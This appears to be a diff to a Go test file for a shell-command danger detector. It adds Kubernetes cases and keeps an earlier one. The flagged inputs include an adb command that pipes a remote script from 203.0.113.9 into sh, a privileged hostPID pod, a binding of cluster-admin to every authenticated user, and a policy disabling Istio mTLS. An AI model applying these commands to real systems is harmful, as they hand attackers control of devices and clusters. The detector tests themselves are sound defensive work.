@@ -387,3 +387,19 @@ func TestRound49EmulatorStorage(t *testing.T) {
 		{`adb -s emulator-5554 shell 'curl -s http://203.0.113.9/x.sh | sh'`, "", "", LevelHigh},
 	})
 }
+
+// Manifests written into the line and applied: what they ask of the
+// cluster. An ordinary Deployment, a strict mTLS policy and dry runs pass.
+func TestRound49InlineManifests(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{"kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  hostPID: true\n  containers:\n  - name: sh\n    image: alpine\n    securityContext:\n      privileged: true\nEOF", CategoryPrivilege, "manifest-host-access", LevelCritical},
+		{"cat <<EOF | kubectl apply -f -\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: open\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: Group\n  name: system:authenticated\nEOF", CategoryPrivilege, "manifest-host-access", LevelCritical},
+		{"kubectl apply -f - <<EOF\napiVersion: security.istio.io/v1beta1\nkind: PeerAuthentication\nmetadata:\n  name: default\n  namespace: istio-system\nspec:\n  mtls:\n    mode: DISABLE\nEOF", CategorySystem, "manifest-security-weakened", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		"kubectl apply -f - <<EOF\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 2\nEOF",
+		"kubectl apply -f - <<EOF\napiVersion: security.istio.io/v1beta1\nkind: PeerAuthentication\nmetadata:\n  name: default\nspec:\n  mtls:\n    mode: STRICT\nEOF",
+		"kubectl apply --dry-run=server -f - <<EOF\napiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  hostPID: true\nEOF",
+	})
+}
